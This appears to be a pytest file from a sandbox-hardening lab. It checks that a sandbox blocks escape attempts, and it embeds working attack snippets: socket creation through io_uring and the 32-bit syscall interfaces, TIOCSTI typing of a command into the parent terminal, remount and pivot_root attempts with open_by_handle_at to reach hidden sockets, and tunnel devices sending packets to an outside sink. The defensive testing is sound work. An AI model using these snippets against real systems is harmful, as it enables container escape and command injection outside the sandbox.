"""What the command may not reach in other ways: by system calls that filters forget, by its terminal, by mounts."""

from __future__ import annotations

import os
import pty
import shlex
import shutil
import socket
import subprocess
import uuid
from pathlib import Path

import pytest

from lab import plan
from lab.internet import Internet
from lab.sandgate import Sandgate, allowing, attack, shell

ALLOWED_FAMILIES = {int(family) for family in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK)}


@pytest.mark.attack(
    "T15 T10",
    "opens sockets of other families by io_uring, by socketpair, by the 32-bit and the x32 interface of the kernel, by numbers "
    "whose upper half the kernel ignores",
    stopped_by="seccomp",
)
@pytest.mark.parametrize("way", ["direct", "pair", "io_uring", "i386", "x32", "wide"])
def test_families_by_other_ways(internet: Internet, sandgate: Sandgate, way: str) -> None:
    command = attack("families", way, *range(1, 46))
    without = internet.unenforced(command)
    opened = {int(line.split()[1]) for line in without.stdout.splitlines() if line.startswith("opened")}
    if way in ("direct", "io_uring", "i386", "wide"):
        assert opened - ALLOWED_FAMILIES, without
    run = sandgate.run(allowing(), *command)
    opened = {int(line.split()[1]) for line in run.stdout.splitlines() if line.startswith("opened")}
    assert opened <= ALLOWED_FAMILIES, run


@pytest.mark.attack(
    "T16", "makes Unix sockets by io_uring or the 32-bit interface, under --no-unix-sockets", stopped_by="seccomp"
)
@pytest.mark.parametrize("way", ["direct", "io_uring", "i386", "wide"])
def test_unix_sockets_by_other_ways(internet: Internet, sandgate: Sandgate, way: str) -> None:
    command = attack("families", way, 1)
    assert "opened 1" in internet.unenforced(command).stdout
    run = sandgate.run(allowing(), *command, options=["--no-unix-sockets"])
    assert "opened" not in run.stdout, run


TYPE = """\
import fcntl, os, sys
for path in ("/dev/tty", "/proc/self/fd/0", "/dev/console", "/dev/pts/0", "/dev/tty1"):
    try:
        with open(path, "rb+", buffering=0) as terminal:
            for letter in sys.argv[1] + "\\n": fcntl.ioctl(terminal, 0x5412, letter.encode())
        break
    except OSError: continue
"""


@pytest.mark.attack(
    "T13 T16",
    "types a command into the terminal that it was started from, to be executed outside",
    stopped_by="seccomp, namespaces",
)
def test_typing_into_the_terminal(internet: Internet, sandgate: Sandgate) -> None:
    """What is typed (TIOCSTI) waits for whoever reads next: the shell, after the run."""
    if Path("/proc/sys/dev/tty/legacy_tiocsti").read_text() != "1\n":
        pytest.skip("this kernel lets nobody type for another: the attack does not work without enforcement either")
    typing = ["/usr/bin/python3", "-c", TYPE, "planted"]

    def executed(command: list[str]) -> str:
        script = f"{shlex.join(command)}; read -t 3 line; echo got=$line"
        pid, screen = pty.fork()
        if pid == 0:
            os.execvpe(
                "/bin/bash",
                ["/bin/bash", "-c", script],
                internet.environment(sandgate.user.environment() if sandgate.user else None),
            )
        output = b""
        try:
            while piece := os.read(screen, 4096):
                output += piece
        except OSError:
            pass  # the end of a terminal
        os.waitpid(pid, 0)
        os.close(screen)
        return output.decode()

    assert "got=planted" in executed(typing)
    line, _ = sandgate.command(allowing(), typing)
    assert "got=planted" not in executed(line)


REVEAL = """\
import ctypes, os, socket, struct, subprocess, sys
path = sys.argv[1]
def attempt(where):
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(where)
            print("reached", where)
    except OSError: pass
def run(script): subprocess.run(["/bin/sh", "-c", script], stderr=subprocess.DEVNULL)
attempt(path)
for root in ("/proc/self/root", "/proc/1/root", "/proc/1/cwd", "/proc/self/cwd/../../../../.."): attempt(root + path)
again = f"{sys.executable} {sys.argv[0]} {path} again"
if "again" not in sys.argv:
    for prefix in ("", "unshare --user --map-root-user --mount "):
        for change in (
            f"umount {path}", f"umount -l {os.path.dirname(path)}", "umount -a", "mount --move /run /mnt",
            "mount -t overlay -o lowerdir=/run:/mnt none /mnt", "mount --rbind / /mnt", "mount --make-rslave /",
            "mount -o remount,rw /run", "mount -t proc proc /mnt", "pivot_root / /mnt",
        ):
            run(f"{prefix}/bin/sh -c '{change}; {again}'")
    # Files are found by their numbers, past every mount.
    directory = os.open("/", os.O_RDONLY)
    libc = ctypes.CDLL(None, use_errno=True)
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0)
    got = libc.open_by_handle_at(directory, handle, os.O_RDONLY)
    if got >= 0: print("opened a file by its number")
print("tried everything")
"""


@pytest.mark.attack(
    "T16",
    "uncovers hidden sockets: unmounts, mounts anew, moves and overlays, goes through /proc",
    stopped_by="mounts, capabilities",
)
def test_uncovering_what_is_hidden(internet: Internet, sandgate: Sandgate, tmp_path: Path) -> None:
    path = "/run/sandgate-lab-hidden/agent.sock"
    script = tmp_path / "reveal.py"
    script.write_text(REVEAL)
    command = ["/usr/bin/python3", str(script), path]
    Path(path).parent.mkdir()
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(path)
            server.listen()
            Path(path).chmod(0o666)
            without = subprocess.run([*command, "again"], capture_output=True, text=True, timeout=30)
            assert "reached" in without.stdout, without
            run = sandgate.run(allowing(), *command)
    finally:
        shutil.rmtree("/run/sandgate-lab-hidden")
    assert "reached" not in run.stdout and "by its number" not in run.stdout, run
    assert "tried everything" in run.stdout, run


@pytest.mark.attack("T16", "connects to an abstract socket of the node", stopped_by="namespaces")
def test_abstract_socket(internet: Internet, sandgate: Sandgate) -> None:
    name = f"\\0sandgate-lab-{uuid.uuid4().hex}"
    command = ["/usr/bin/python3", "-c", f"import socket; socket.socket(socket.AF_UNIX).connect('{name}'); print('in')"]
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(name.replace("\\0", "\0"))
        server.listen()
        assert "in" in subprocess.run(command, capture_output=True, text=True, timeout=30).stdout
        run = sandgate.run(allowing(), *command)
    assert run.returncode != 0 and "in\n" not in run.stdout, run


@pytest.mark.attack(
    "T16 T6", "passes data to a program of the node through shared memory or a semaphore", stopped_by="namespaces"
)
def test_shared_memory(internet: Internet, sandgate: Sandgate) -> None:
    made = subprocess.run(["ipcmk", "-M", "4096", "-p", "0666"], capture_output=True, text=True, check=True)
    number = made.stdout.split()[-1]
    shared = Path("/dev/shm") / f"sandgate-lab-{uuid.uuid4().hex}"
    shared.write_text("outside")
    shared.chmod(0o666)
    command = shell(f"ipcs -m -i {number} | grep -c cuid; cat {shared}")
    try:
        without = subprocess.run(command, capture_output=True, text=True, timeout=30)
        assert "outside" in without.stdout and without.stdout.startswith("1"), without
        run = sandgate.run(allowing(), *command)
    finally:
        subprocess.run(["ipcrm", "-m", number], check=True)
        shared.unlink()
    assert "outside" not in run.stdout and not run.stdout.startswith("1"), run


@pytest.mark.attack(
    "T6",
    "makes namespaces of every kind and devices in them: tunnels, bridges, virtual links to the first process",
    stopped_by="namespaces",
)
def test_devices_of_its_own(internet: Internet, sandgate: Sandgate) -> None:
    send = " ".join(f"'{word}'" for word in attack("packets", "udp", plan.SINK4, 4444, "by a device of its own"))
    devices = "; ".join(
        f"ip link add a{number} {kind}; ip link set a{number} up; ip link set a{number} netns 1; "
        f"ip route replace default dev a{number}"
        for number, kind in enumerate(
            [
                "type veth peer name b0 netns 1",
                "type veth peer name b1",
                "type dummy",
                "type bridge",
                "type vlan id 7 link eth0",
            ]
            + ["link eth0 type macvlan mode bridge", "link eth0 type ipvlan mode l2", f"type ipip remote {plan.SINK4}"]
            + [f"type vxlan id 7 remote {plan.SINK4} dstport 4444", "type wireguard", "type tun"]
        )
    )
    inner = f"{devices}; {send}"
    script = f'({devices}; {send}); unshare --user --map-root-user --net sh -c "{inner}"; true'
    with internet.capture() as outside:
        run = sandgate.run(allowing(plan.ALLOWED), *shell(script))
    assert internet.sinks.arrivals() == [] and b"by a device of its own" not in outside.payload, run
    assert not [name for _, name in socket.if_nameindex() if name in ("a0", "b0", "a1", "a2")]
